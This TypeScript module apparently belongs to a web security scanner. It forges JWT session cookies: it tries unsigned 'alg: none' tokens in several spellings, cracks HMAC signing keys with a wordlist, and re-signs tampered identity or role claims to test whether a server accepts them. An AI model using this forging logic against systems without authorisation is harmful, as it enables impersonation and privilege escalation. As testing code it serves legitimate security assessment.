import { maskClaims, type TamperPlan, tamperPlans } from "./claims.js";
import { type CrackedKey, type JwtCookie, type SignedCookieState, tryKey } from "./client-state.js";
import { type JwtNoneSpelling, NONE_SPELLINGS } from "./jwt.js";
import type { StateOracle, Trial } from "./oracle.js";
import { type Rebuilt, rebuild } from "./rebuild.js";
import { type FoundSecret, findSecret } from "./wordlist.js";

/** One forged token sent to the oracle: the claims change, the value, a masked recipe, and the answer. */
export interface ForgeAttempt {
  /** `none`/`None`/`NONE` for unsigned tokens, `null` for tokens signed with a recovered key. */
  readonly spelling: JwtNoneSpelling | null;
  readonly plan: TamperPlan | null;
  readonly value: Rebuilt;
  readonly recipe: Rebuilt;
  readonly trial: Trial;
}

/**
 * The claims change that proves a forged token was used: the identity probe
 * when the token names a user, else a raised role, else none (then only a
 * token that alone carries the session can prove acceptance).
 */
export function proofPlan(jwt: JwtCookie, claims: Readonly<Record<string, unknown>> = jwt.claims): TamperPlan | null {
  const plans = tamperPlans(claims, jwt.fields);
  return plans.find((p) => p.kind === "identity") ?? plans[0] ?? null;
}

/**
 * Sends the token re-encoded with `alg: none` (each spelling in turn, empty
 * signature) carrying `claims` changed by the proof plan; stops at the first
 * spelling the oracle accepts or cannot judge.
 */
export async function tryUnsigned(
  oracle: StateOracle,
  jwt: JwtCookie,
  claims: Readonly<Record<string, unknown>> = jwt.claims,
  spellings: readonly JwtNoneSpelling[] = NONE_SPELLINGS,
): Promise<ForgeAttempt[]> {
  const attempts: ForgeAttempt[] = [];
  const plan = proofPlan(jwt, claims);
  const sent = plan?.claims ?? claims;
  for (const spelling of spellings) {
    const options = { signature: { mode: "empty" as const }, jwtHeader: { alg: spelling, typ: "JWT" } };
    const value = rebuild(jwt.chain, sent, options);
    const recipe = rebuild(jwt.chain, maskClaims(sent), options);
    if (value === null || recipe === null) break;
    const trial = await oracle.trial({ [jwt.name]: value.value }, plan, jwt.name);
    attempts.push({ spelling, plan, value, recipe, trial });
    if (trial.verdict === "accepted" || trial.verdict === "unknown") break;
  }
  return attempts;
}

/** A recovered JWT key with a signer for forged tokens. */
export interface JwtKey {
  readonly found: FoundSecret;
  readonly key: CrackedKey;
}

/** Tries the bundled wordlist against an HS256/384/512 token; `null` for other algorithms or no hit. */
export function crackJwt(jwt: JwtCookie, extra: readonly string[] = []): JwtKey | null {
  const alg = jwt.header["alg"];
  if (alg !== "HS256" && alg !== "HS384" && alg !== "HS512") return null;
  const signed: SignedCookieState = {
    name: jwt.name,
    session: jwt.session,
    scheme: "jwt",
    data: jwt.signingInput,
    signature: jwt.signature,
    jwtAlg: alg,
    variants: [],
    state: null,
  };
  const found = findSecret((secret) => tryKey(signed, secret) !== null, extra);
  const key = found === null ? null : tryKey(signed, found.secret);
  return found === null || key === null ? null : { found, key };
}

/** Sends the token with `claims` (changed by the proof plan) signed with a recovered key. */
export async function trySigned(
  oracle: StateOracle,
  jwt: JwtCookie,
  key: JwtKey,
  claims: Readonly<Record<string, unknown>>,
): Promise<ForgeAttempt | null> {
  const plan = proofPlan(jwt, claims);
  const sent = plan?.claims ?? claims;
  const options = { signature: { mode: "sign" as const, signer: key.key.signer } };
  const value = rebuild(jwt.chain, sent, options);
  const recipe = rebuild(jwt.chain, maskClaims(sent), options);
  if (value === null || recipe === null) return null;
  const trial = await oracle.trial({ [jwt.name]: value.value }, plan, jwt.name);
  return { spelling: null, plan, value, recipe, trial };
}
